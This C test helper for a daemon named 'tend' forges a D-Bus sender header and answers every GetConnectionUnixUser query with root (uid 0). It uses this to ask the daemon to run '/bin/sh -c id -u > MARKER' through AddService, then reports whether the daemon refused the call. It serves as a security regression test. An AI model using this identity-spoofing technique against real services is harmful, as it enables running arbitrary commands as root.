/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * tend-test-forge-sender ADDRESS SENDER MARKER: the attack on the control
 * socket, as a hostile client would make it. It connects to ADDRESS
 * (EXTERNAL, peer to peer), sends Manager1.AddService with the SENDER header
 * set to SENDER (a command that creates MARKER), and answers every
 * org.freedesktop.DBus.GetConnectionUnixUser the daemon asks it with 0.
 *
 * Prints "asked N" (how many such questions came) and then "ok" or
 * "error ERROR-NAME: MESSAGE"; exits 0 when AddService succeeded, 1 when it
 * was refused, 2 when the test could not be made.
 */
#include <gio/gio.h>
#include <stdio.h>

static const char bus_xml[] = "<node><interface name='org.freedesktop.DBus'>"
                              "<method name='GetConnectionUnixUser'>"
                              "<arg type='s' direction='in'/><arg type='u' direction='out'/>"
                              "</method></interface></node>";

static guint asked;
static GMainLoop *loop;
static int result = 2;

static void
bus_method_call (GDBusConnection *connection,
                 const char *sender,
                 const char *object_path,
                 const char *interface_name,
                 const char *method_name,
                 GVariant *parameters,
                 GDBusMethodInvocation *invocation,
                 gpointer user_data)
{
  /* "the caller you ask about is root" */
  asked++;
  g_dbus_method_invocation_return_value (invocation, g_variant_new ("(u)", 0));
}

static void
reply_cb (GObject *source, GAsyncResult *res, gpointer user_data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GDBusMessage) reply =
    g_dbus_connection_send_message_with_reply_finish (G_DBUS_CONNECTION (source), res, &error);

  printf ("asked %u\n", asked);
  if (reply == NULL) {
    printf ("error %s\n", error->message);
  } else if (g_dbus_message_get_message_type (reply) == G_DBUS_MESSAGE_TYPE_ERROR) {
    GVariant *body = g_dbus_message_get_body (reply);
    const char *text = "";
    if (body != NULL && g_variant_is_of_type (body, G_VARIANT_TYPE ("(s)")))
      g_variant_get (body, "(&s)", &text);
    printf ("error %s: %s\n", g_dbus_message_get_error_name (reply), text);
    result = 1;
  } else {
    printf ("ok\n");
    result = 0;
  }
  g_main_loop_quit (loop);
}

static gboolean
timeout_cb (gpointer user_data)
{
  printf ("asked %u\nno answer\n", asked);
  g_main_loop_quit (loop);
  return G_SOURCE_REMOVE;
}

int
main (int argc, char **argv)
{
  static const GDBusInterfaceVTable vtable = { bus_method_call, NULL, NULL };
  g_autoptr(GError) error = NULL;
  g_autoptr(GDBusConnection) connection = NULL;
  g_autoptr(GDBusNodeInfo) info = NULL;
  g_autoptr(GDBusMessage) call = NULL;
  g_autofree char *command = NULL;
  const char *add_argv[4];

  if (argc != 4) {
    fprintf (stderr, "usage: %s ADDRESS SENDER MARKER\n", argv[0]);
    return 2;
  }
  connection = g_dbus_connection_new_for_address_sync (argv[1], G_DBUS_CONNECTION_FLAGS_AUTHENTICATION_CLIENT, NULL,
                                                       NULL, &error);
  if (connection == NULL) {
    fprintf (stderr, "cannot connect: %s\n", error->message);
    return 2;
  }
  info = g_dbus_node_info_new_for_xml (bus_xml, &error);
  g_assert_no_error (error);
  if (g_dbus_connection_register_object (connection, "/org/freedesktop/DBus", info->interfaces[0], &vtable, NULL,
                                         NULL, &error) == 0) {
    fprintf (stderr, "cannot answer questions: %s\n", error->message);
    return 2;
  }

  command = g_strdup_printf ("id -u > '%s'", argv[3]);
  add_argv[0] = "/bin/sh";
  add_argv[1] = "-c";
  add_argv[2] = command;
  add_argv[3] = NULL;
  call = g_dbus_message_new_method_call ("org.tend.Tend1", "/org/tend/Tend1", "org.tend.Manager1", "AddService");
  g_dbus_message_set_body (call, g_variant_new ("(s^asa{ss}s)", "forged", add_argv, NULL, "/"));
  g_dbus_message_set_sender (call, argv[2]);

  loop = g_main_loop_new (NULL, FALSE);
  g_dbus_connection_send_message_with_reply (connection, call, G_DBUS_SEND_MESSAGE_FLAGS_NONE, 30000, NULL, NULL,
                                             reply_cb, NULL);
  g_timeout_add_seconds (40, timeout_cb, NULL);
  g_main_loop_run (loop);
  g_main_loop_unref (loop);
  fflush (stdout);
  return result;
}
